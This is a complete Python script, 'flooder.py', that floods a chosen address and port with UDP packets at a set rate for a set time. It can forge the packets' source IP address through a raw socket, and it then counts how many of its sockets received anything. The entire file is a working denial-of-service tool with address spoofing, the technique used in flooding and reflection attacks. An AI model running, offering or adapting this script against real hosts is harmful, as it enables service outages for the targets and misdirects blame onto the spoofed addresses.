"""Sends packets from a file to one place, as fast as it is told, and counts what comes back.

    python3 flooder.py FILE ADDRESS PORT RATE SECONDS [SOURCE PORT]

The file has one packet per line, in hexadecimal. With SOURCE, they claim to come from there.
"""

import pathlib
import select
import socket
import struct
import sys
import time

BATCH = 0.001


def forged(payload: bytes, source: tuple[str, int], place: tuple[str, int]) -> bytes:
    """An IPv4 packet; the kernel fills in lengths and checksums of IP, and UDP needs none."""
    udp = struct.pack("!HHHH", source[1], place[1], 8 + len(payload), 0)
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0,
        socket.inet_aton(source[0]), socket.inet_aton(place[0]))
    return header + udp + payload


def main() -> None:
    payloads = [bytes.fromhex(line) for line in pathlib.Path(sys.argv[1]).read_text().split("\n")]
    place, rate, seconds = (sys.argv[2], int(sys.argv[3])), int(sys.argv[4]), float(sys.argv[5])
    if len(sys.argv) > 6:
        source = (sys.argv[6], int(sys.argv[7]))
        payloads = [forged(payload, source, place) for payload in payloads]
        sockets = [socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)]
    else:
        sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(8)]
    print("ready", flush=True)
    begin, count = time.monotonic(), 0
    while (elapsed := time.monotonic() - begin) < seconds:
        while count < elapsed * rate:
            sockets[count % len(sockets)].sendto(payloads[count % len(payloads)], place)
            count += 1
        time.sleep(BATCH)
    heard = len(select.select(sockets, [], [], 0.2)[0]) if len(sys.argv) <= 6 else 0
    print(count, heard, flush=True)


if __name__ == "__main__":
    main()
